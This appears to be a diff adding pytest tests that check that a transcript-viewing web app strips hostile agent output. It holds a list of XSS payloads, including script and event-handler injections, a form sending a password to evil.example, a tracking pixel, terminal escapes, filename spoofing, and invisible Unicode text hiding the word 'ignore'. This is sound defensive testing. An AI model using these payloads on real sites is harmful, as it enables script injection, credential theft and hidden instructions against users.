@@ -1,0 +1,152 @@
+"""Agent output is hostile: whatever stands in it, the page holds no element and no attribute that we did not write."""
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from sessions import protocol, transcripts
+from sessions.models import EventDraft
+from sessions.templatetags.prose import TAGS, prose
+from tests.factories import make_events, make_message, make_session
+from tests.web.markup import parse
+
+ATTACKS = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)><use href=data:image/svg+xml,x></svg>",
+    '"><script>alert(1)</script>',
+    "' onmouseover='alert(1)",
+    "[click](javascript:alert(1))",
+    "[click](JaVaScRiPt&#58;alert(1))",
+    "[click](data:text/html,<script>alert(1)</script>)",
+    "[click](vbscript:x)",
+    "[click](/sign-out/)",
+    "[click](//evil.example/)",
+    "![tracker](https://evil.example/pixel.png)",
+    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
+    "<javascript:alert(1)>",
+    '<https://ok.example/" onclick="alert(1)>',
+    '```"><script>alert(1)</script>\ncode\n```',
+    "```html\n<script>alert(1)</script>\n```",
+    "| a |\n|---|\n| <b onclick=x>y</b> |",
+    "<style>*{display:none}</style>",
+    "<iframe src=//evil.example></iframe>",
+    "<form action=//evil.example><input name=password></form>",
+    '<a href="x" style="position:fixed">x</a>',
+    "</div></article></main><h1>fake</h1>",
+    "{{ settings.SECRET_KEY }} {% load x %}",
+    "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
+    "\x1b[2J\x1b[1;1H",
+    "invoice\u202egnp.exe",
+    "\u2066hidden\u2069 zero\u200bwidth \ufeff",
+    "\U000e0069\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065",
+    "nul \x00 bell \x07 back \x08",
+    "&lt;script&gt;alert(1)&lt;/script&gt; &#x3c;script&#x3e;",
+    "a\u2028b\u2029c",
+    "[" * 2000,
+    "*a " * 2000,
+    "> " * 500 + "deep",
+]
+OURS = {"a", "article", "b", "button", "code", "details", "div", "header", "span", "summary", "svg", "time", "use"}
+HIDING = set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200b\ufeff\x00\x07\x08\x1b\u2028\u2029")
+
+
+def check_clean(root):
+    """Assert that nothing below `root` runs, loads, frames, submits elsewhere, hides or reorders."""
+    for element in root.all():
+        assert element.tag not in {"script", "style", "iframe", "object", "embed", "img", "base", "link", "meta"}
+        assert not [name for name in element.attrs if name.startswith("on") or name in {"style", "srcdoc", "src"}]
+        link = element.attrs.get("href", "")
+        assert link.startswith(("/", "?", "#", "http://", "https://", "mailto:")) or not link, link
+    assert not HIDING & set(root.text)
+
+
+@pytest.mark.parametrize("attack", ATTACKS, ids=range(len(ATTACKS)))
+def test_a_message_is_harmless(owner, reader, attack):
+    session = make_session(owner)
+    for role in ("user", "assistant", "system", "tool"):
+        make_message(session, role=role, content=attack, thinking=attack)
+    shown = parse(reader.get(f"/sessions/{session.uuid}/").content)
+    assert len(shown.all("article", "message")) == 4
+    assert len(shown.all("h1")) == 1
+    for message in shown.all("article", "message"):
+        check_clean(message)
+        words = [link for prose in message.all("div", "prose") for link in prose.all("a")]
+        for link in words:
+            assert link.attrs.get("rel") == "noopener noreferrer nofollow"
+            assert not link.attrs.get("href", "").startswith("/")
+
+
+@pytest.mark.parametrize("attack", ATTACKS, ids=range(len(ATTACKS)))
+def test_names_arguments_outputs_and_requests_are_harmless(owner, reader, attack):
+    name = attack.replace("\x00", "")[:300]
+    session = make_session(owner, title=name, agent_name=name, project_root=f"/srv/{name}", model=name)
+    call = {"id": "1", "name": name, "arguments": {name: attack, "command": attack}}
+    make_message(session, role="assistant", content="x", tool_calls=[call], agent_name=name, model=name)
+    make_message(session, role="tool", tool_call_id="1", content=attack)
+    preview = {"replacements": [{"old_lines": [attack], "new_lines": [attack, attack]}]}
+    make_events(
+        session,
+        {"type": "turn_start", "turn_id": "t"},
+        {"type": "tool_call_start", "id": "2", "name": name, "args": {"command": attack}, "turn_id": "t"},
+        {
+            "type": "approval_request",
+            "id": "q",
+            "tool_name": name,
+            "detail": attack,
+            "preview": preview,
+            "turn_id": "t",
+        },
+    )
+    calls = session.tool_calls.values_list("pk", flat=True)
+    base = f"/sessions/{session.uuid}/"
+    plain = [url for pk in calls for url in (f"{base}tools/{pk}/",)]
+    for url in ("/", base, f"{base}?tab=events", f"{base}events/5/", f"{base}delete/", *plain):
+        response = reader.get(url)
+        assert response.status_code == 200
+        main = parse(response.content).one("main")
+        assert len(main.all("h1")) == 1, url
+        assert not HIDING & set(main.text), url
+        check_clean(main)
+
+
+@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(
+    st.text(max_size=300)
+    | st.lists(st.sampled_from([*"<>\"'`*_[]()!#|-\n &;:/\\", "a", "script", "href=", "onx="]), max_size=80).map(
+        "".join
+    )
+)
+def test_no_text_becomes_a_tag_or_an_attribute_of_its_own(text):
+    root = parse(prose(text))
+    for element in root.all():
+        assert element.tag in TAGS
+        assert set(element.attrs) <= {"href", "title", "rel", "target", "class", "start"}
+        assert not element.attrs.get("href") or element.attrs["href"].startswith(("http://", "https://", "mailto:"))
+
+
+def test_hidden_text_is_spelled_out(owner, reader):
+    session = make_session(owner)
+    make_message(session, content="hello\U000e0069\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065")
+    assert "hello⟦hidden: ignore⟧" in parse(reader.get(f"/sessions/{session.uuid}/").content).one("article").text
+
+
+def test_a_streamed_half_of_an_attack_is_harmless_too(owner, reader):
+    session = make_session(owner)
+    protocol.ingest(
+        session.pk,
+        [
+            EventDraft(type="turn_start", turn_id="t"),
+            EventDraft(type="text_delta", payload={"text": "```html\n<script>alert("}),
+            EventDraft(type="thinking_delta", payload={"text": "<img src=x onerror="}),
+        ],
+    )
+    check_clean(parse(reader.get(f"/sessions/{session.uuid}/").content).by_id("now"))
+
+
+def test_a_tool_row_of_a_message_without_ids_is_shown_as_text(owner, reader):
+    session = make_session(owner)
+    calls = [{"name": "<b>x</b>"}, {"function": {"name": "Read"}}, "no object", {"id": 7}]
+    transcripts.append(session.pk, [transcripts.MessageDraft(role="assistant", content=None, tool_calls=calls)])
+    rows = parse(reader.get(f"/sessions/{session.uuid}/").content).all("p", "tool")
+    assert [row.text for row in rows] == ["<b>x</b> without an id", "Read without an id", "? without an id"]
